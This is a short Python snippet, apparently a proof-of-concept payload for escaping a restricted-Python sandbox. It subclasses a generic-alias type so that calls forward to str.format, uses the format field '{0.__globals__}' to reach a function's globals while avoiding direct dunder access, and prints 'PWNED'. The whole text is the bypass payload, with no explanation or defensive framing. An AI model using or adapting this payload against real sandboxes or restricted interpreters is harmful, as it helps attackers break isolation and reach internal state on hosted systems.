class Alias(type(list[int])):
    pass
def f():
    pass
print("PWNED", Alias(str, ()).format("{0.__globals__}", f))
